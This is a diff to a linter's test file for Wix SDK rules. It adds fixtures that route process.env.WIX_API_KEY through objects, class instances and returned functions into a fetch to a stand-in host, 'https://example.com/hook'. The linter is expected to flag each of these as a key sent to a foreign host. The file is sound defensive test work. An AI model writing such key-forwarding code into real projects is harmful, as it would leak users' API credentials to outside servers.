@@ -6,6 +6,8 @@ import type { RuleName } from '../linting.js';
 const SDK = `import { ApiKeyStrategy, createClient } from '@wix/sdk';\n`;
 const SEND = `fetch('https://www.wixapis.com/a', { headers: { Authorization: apiKey, 'wix-site-id': siteId } });`;
 
+const HOOK = `fetch('https://example.com/hook', { headers: { 'x-a': value } })`;
+
 /** Files, the rule, and the texts that it reports, each behind its file. */
 const cases: readonly (readonly [about: string, rule: RuleName, files: Files, reports: readonly string[]])[] = [
   ['a public variable of another file', 'no-exposed-key', { 'config.js': 'export const apiKey = process.env.NEXT_PUBLIC_WIX_API_KEY;', 'app.js': `import { apiKey } from './config.js';\n${SEND}` }, ['app.js: apiKey']],
@@ -25,6 +27,14 @@ const cases: readonly (readonly [about: string, rule: RuleName, files: Files, re
   ['a private variable handed over', 'no-exposed-key', { 'wix.js': `export const send = (apiKey) => ${SEND.replace(';', '')};`, 'app.js': `import { send } from './wix.js';\nsend(process.env.WIX_API_KEY);` }, []],
   ['a UUID handed to a class of another file', 'valid-key-format', { 'wix.js': `export class Client {\n  async initialize(clientId, apiKey) { this.apiKey = apiKey; }\n  load(siteId) { return fetch('https://www.wixapis.com/a', { headers: { Authorization: this.apiKey, 'wix-site-id': siteId } }); }\n}`, 'app.js': `import { Client } from './wix.js';\nconst client = new Client();\nawait client.initialize('${appSecret(3)}', '${appSecret(4)}');` }, [`app.js: '${appSecret(4)}'`]],
   ['a foreign URL of another file', 'no-key-to-foreign-host', { 'urls.js': `export const HOOK = 'https://example.com/hook';`, 'app.js': `import { HOOK } from './urls.js';\nfetch(HOOK, { headers: { Authorization: process.env.WIX_API_KEY } });` }, ['app.js: process.env.WIX_API_KEY']],
+  // What sends it speaks of no key: it matters because of who calls it, which is not known when the object is looked at first.
+  ['a variable handed to an object of another file', 'no-key-to-foreign-host', { 'wix.js': `export const api = { send(value) { return go(value); } };\nfunction go(value) { return ${HOOK}; }\napi.other = 1;`, 'app.js': `import { api } from './wix.js';\napi.send(process.env.WIX_API_KEY);` }, ['app.js: process.env.WIX_API_KEY']],
+  ['a variable handed to an instance of another file', 'no-key-to-foreign-host', { 'wix.js': `class Api {\n  send(value) { this.value = value; return this.go(); }\n  go() { const { value } = this; return ${HOOK}; }\n}\nexport const api = new Api();\nexport const other = 1;`, 'app.js': `import { api } from './wix.js';\napi.send(process.env.WIX_API_KEY);` }, ['app.js: process.env.WIX_API_KEY']],
+  ['a variable handed to what a function of another file returns', 'no-key-to-foreign-host', { 'wix.js': `export const make = (url) => (value) => fetch(url, { headers: { 'x-a': value } });\nexport const other = 1;`, 'app.js': `import { make } from './wix.js';\nmake('https://example.com')(process.env.WIX_API_KEY);` }, ['app.js: process.env.WIX_API_KEY']],
+  ['a key of another service handed to such a function', 'no-key-to-foreign-host', { 'hook.js': `export const send = (value) => ${HOOK};`, 'app.js': `import { send } from './hook.js';\nsend(process.env.HOOK_API_KEY);` }, []],
+  ['a variable handed to a function that sends it to Wix', 'no-key-to-foreign-host', { 'wix.js': `export const send = (apiKey, siteId) => ${SEND.replace(';', '')};`, 'app.js': `import { send } from './wix.js';\nsend(process.env.WIX_API_KEY);` }, []],
+  ['a variable handed to a function that sends it to this machine', 'no-key-to-foreign-host', { 'proxy.js': `export const send = (value) => ${HOOK.replace('example.com', 'localhost:3000')};`, 'app.js': `import { send } from './proxy.js';\nsend(process.env.WIX_API_KEY);` }, []],
+  ['a variable beside one that is sent', 'no-key-to-foreign-host', { 'hook.js': `export const send = (other, value) => ${HOOK};`, 'app.js': `import { send } from './hook.js';\nsend(process.env.WIX_API_KEY, 'a');` }, []],
 ];
 
 describe('what other files say', () => {
